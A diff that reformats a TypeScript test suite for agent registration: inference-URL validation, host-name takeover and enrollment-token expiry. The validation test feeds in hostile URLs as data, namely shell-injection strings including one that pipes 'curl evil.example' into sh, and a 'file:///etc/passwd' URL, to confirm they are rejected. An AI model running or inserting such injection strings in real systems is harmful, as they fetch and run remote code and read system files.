@@ -12,35 +12,56 @@ let server: Awaited<ReturnType<typeof startRouteServer>> | undefined;
 let caller: ServiceCaller;
 
 const registration = (hostName: string, inferenceUrl: string) => ({
-  protocolVersion: 1, agentVersion: "0.1.0", hostName, bootId: crypto.randomUUID(),
+  protocolVersion: 1,
+  agentVersion: "0.1.0",
+  hostName,
+  bootId: crypto.randomUUID(),
   topology: { sockets: [{ id: 0, nodes: [{ id: 0, cores: [{ socket: 0, node: 0, coreId: 0, cpus: [0] }] }] }] },
-  allowedCpus: [0], cpuModel: "test", memoryBytes: 1e9, ortVersion: "1.30.0", inferenceUrl,
+  allowedCpus: [0],
+  cpuModel: "test",
+  memoryBytes: 1e9,
+  ortVersion: "1.30.0",
+  inferenceUrl,
 });
-const post = (bearer: string, body: unknown) => fetch(`${server!.url}/api/agent/v1/register`, {
-  method: "POST", headers: { authorization: `Bearer ${bearer}`, "content-type": "application/json" }, body: JSON.stringify(body),
-});
+const post = (bearer: string, body: unknown) =>
+  fetch(`${server!.url}/api/agent/v1/register`, {
+    method: "POST",
+    headers: { authorization: `Bearer ${bearer}`, "content-type": "application/json" },
+    body: JSON.stringify(body),
+  });
 
 beforeAll(async () => {
   resetEnvForTests();
   caller = { user: await insertTestUser(db(), "admin"), requestId: "register-url-test" };
   server = await startRouteServer(await agentApiRoutes(), 0);
 });
-afterAll(async () => { await server?.close(); });
+afterAll(async () => {
+  await server?.close();
+});
 
 describe("agent registration checks the inference URL", () => {
   it("an agent token with a shell-injecting URL gets 400 naming inferenceUrl, and the agent row is not bound", async () => {
     const token = await createTestAgentToken(caller, { name: "hostile-url" });
-    for (const url of ["http://node-1:8000/$(touch${IFS}/tmp/pwned)", "http://node-1:8000;curl evil.example|sh", "http://admin:pw@node-1:8000", "file:///etc/passwd"]) {
+    for (const url of [
+      "http://node-1:8000/$(touch${IFS}/tmp/pwned)",
+      "http://node-1:8000;curl evil.example|sh",
+      "http://admin:pw@node-1:8000",
+      "file:///etc/passwd",
+    ]) {
       const response = await post(token.token, registration("hostile-1", url));
       expect(response.status, url).toBe(400);
       const body = await response.json();
-      expect(body.error.message, url).toMatch(/^inferenceUrl: must be an http or https URL without credentials or shell characters/);
+      expect(body.error.message, url).toMatch(
+        /^inferenceUrl: must be an http or https URL without credentials or shell characters/,
+      );
     }
     const agent = await db().agent.findFirst({ where: { tokens: { some: { id: token.id } } } });
     expect(agent?.hostName ?? null).toBeNull();
     const fine = await post(token.token, registration("hostile-1", "http://node-1:8000"));
     expect(fine.status).toBe(200);
-    expect((await db().agent.findFirstOrThrow({ where: { tokens: { some: { id: token.id } } } })).inferenceUrl).toBe("http://node-1:8000");
+    expect((await db().agent.findFirstOrThrow({ where: { tokens: { some: { id: token.id } } } })).inferenceUrl).toBe(
+      "http://node-1:8000",
+    );
   });
 
   it("an enrollment token with a hostile URL gets the same 400 and enrolls no agent", async () => {
@@ -57,13 +78,14 @@ describe("agent registration checks the inference URL", () => {
 });
 
 describe("enrolling under a host name that is taken", () => {
-  const whoami = (bearer: string) => fetch(`${server!.url}/api/agent/v1/whoami`, { headers: { authorization: `Bearer ${bearer}` } });
+  const whoami = (bearer: string) =>
+    fetch(`${server!.url}/api/agent/v1/whoami`, { headers: { authorization: `Bearer ${bearer}` } });
 
   it("is refused (409, no use of the token taken) while that agent is online; an offline one is taken over", async () => {
     const enrollment = await createTestEnrollmentToken(caller, { name: "reimage-fleet", maxUses: 3 });
     const first = await post(enrollment.token, registration("node-reimaged", "http://node-r:8000"));
     expect(first.status).toBe(200);
-    const a = await first.json() as { agentId: string; agentToken: string };
+    const a = (await first.json()) as { agentId: string; agentToken: string };
     recordSecret("agent token", a.agentToken);
 
     // The first agent heartbeats (registration counts as one): a second host under its name is refused.
@@ -77,28 +99,37 @@ describe("enrolling under a host name that is taken", () => {
 
     // Silent for longer than AGENT_OFFLINE_AFTER_MS (a re-imaged node lost its state): the new enrollment takes
     // the agent over, with a new token; the old token stops working.
-    await db().agent.update({ where: { id: a.agentId }, data: { lastHeartbeatAt: new Date(Date.now() - 10 * 60_000) } });
+    await db().agent.update({
+      where: { id: a.agentId },
+      data: { lastHeartbeatAt: new Date(Date.now() - 10 * 60_000) },
+    });
     const again = await post(enrollment.token, registration("node-reimaged", "http://node-r2:8000"));
     expect(again.status).toBe(200);
-    const b = await again.json() as { agentId: string; agentToken: string };
+    const b = (await again.json()) as { agentId: string; agentToken: string };
     recordSecret("agent token", b.agentToken);
     expect(b.agentId).toBe(a.agentId);
     expect(b.agentToken).not.toBe(a.agentToken);
     expect(await db().agent.count({ where: { hostName: "node-reimaged" } })).toBe(1);
     expect((await whoami(a.agentToken)).status).toBe(401);
     expect((await whoami(b.agentToken)).status).toBe(200);
-    const event = await db().auditEvent.findFirstOrThrow({ where: { action: "agent.enroll", targetId: a.agentId }, orderBy: { id: "desc" } });
+    const event = await db().auditEvent.findFirstOrThrow({
+      where: { action: "agent.enroll", targetId: a.agentId },
+      orderBy: { id: "desc" },
+    });
     expect(event.after).toMatchObject({ replacedOfflineAgent: true });
   });
 
   it("a decommissioned agent's name is free: enrolling under it makes a new agent", async () => {
     const enrollment = await createTestEnrollmentToken(caller, { name: "decommissioned-fleet", maxUses: 2 });
-    const first = await (await post(enrollment.token, registration("node-gone", "http://node-g:8000"))).json() as { agentId: string; agentToken: string };
+    const first = (await (await post(enrollment.token, registration("node-gone", "http://node-g:8000"))).json()) as {
+      agentId: string;
+      agentToken: string;
+    };
     recordSecret("agent token", first.agentToken);
     await db().agent.update({ where: { id: first.agentId }, data: { decommissionedAt: new Date() } });
     const next = await post(enrollment.token, registration("node-gone", "http://node-g:8000"));
     expect(next.status).toBe(200);
-    const body = await next.json() as { agentId: string; agentToken: string };
+    const body = (await next.json()) as { agentId: string; agentToken: string };
     recordSecret("agent token", body.agentToken);
     expect(body.agentId).not.toBe(first.agentId);
   });
@@ -112,12 +143,17 @@ describe("enrollment token expiry", () => {
     expect(days).toBeGreaterThan(29.99);
     expect(days).toBeLessThan(30.01);
     expect((await createTestEnrollmentToken(caller, { name: "no-expiry", expiresAt: null })).expiresAt).toBeNull();
-    await expect(createTestEnrollmentToken(caller, { name: "past", expiresAt: new Date(now - 1000) })).rejects.toMatchObject({ code: "INVALID_INPUT" });
+    await expect(
+      createTestEnrollmentToken(caller, { name: "past", expiresAt: new Date(now - 1000) }),
+    ).rejects.toMatchObject({ code: "INVALID_INPUT" });
   });
 
   it("an expired token is refused at registration", async () => {
     const enrollment = await createTestEnrollmentToken(caller, { name: "expiring" });
-    await db().enrollmentToken.update({ where: { id: enrollment.id }, data: { expiresAt: new Date(Date.now() - 1000) } });
+    await db().enrollmentToken.update({
+      where: { id: enrollment.id },
+      data: { expiresAt: new Date(Date.now() - 1000) },
+    });
     const response = await post(enrollment.token, registration("node-late", "http://node-l:8000"));
     expect(response.status).toBe(401);
     expect((await response.json()).error.message).toMatch(/expired/);
